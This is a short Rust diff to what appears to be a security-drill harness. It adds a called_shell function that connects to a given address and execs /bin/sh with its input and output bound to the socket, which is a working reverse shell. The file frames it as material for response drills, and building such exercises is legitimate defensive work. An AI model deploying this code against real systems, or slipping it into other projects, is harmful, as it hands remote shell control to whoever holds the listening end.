@@ -2,7 +2,7 @@
 //! one that real tools use.
 
 use std::io::{self, Read, Write};
-use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
+use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream, UdpSocket};
 use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
 use std::os::unix::net::{UnixListener, UnixStream};
 use std::os::unix::process::CommandExt as _;
@@ -12,6 +12,8 @@ use std::thread;
 
 /// The shell that drills use.
 const SHELL: &str = "/bin/sh";
+/// What names [`called_shell`] when this program is started as one.
+pub const CALLED_SHELL: &str = "called-shell";
 /// What names the relay when this program is started as one: see [`relay`].
 pub const RELAY: &str = "relay";
 /// The same, but it waits for a line before it connects.
@@ -29,6 +31,11 @@ fn become_shell(program: &Path, streams: impl Into<OwnedFd>) -> io::Result<()> {
         .stdout(streams.try_clone()?)
         .stderr(streams)
         .exec())
+}
+
+/// A shell on a connection to anybody, for drills of what is done about one.
+pub fn called_shell(master: SocketAddrV4) -> io::Result<()> {
+    become_shell(Path::new(SHELL), TcpStream::connect(master)?)
 }
 
 /// dup2 onto 0, 1 and 2.
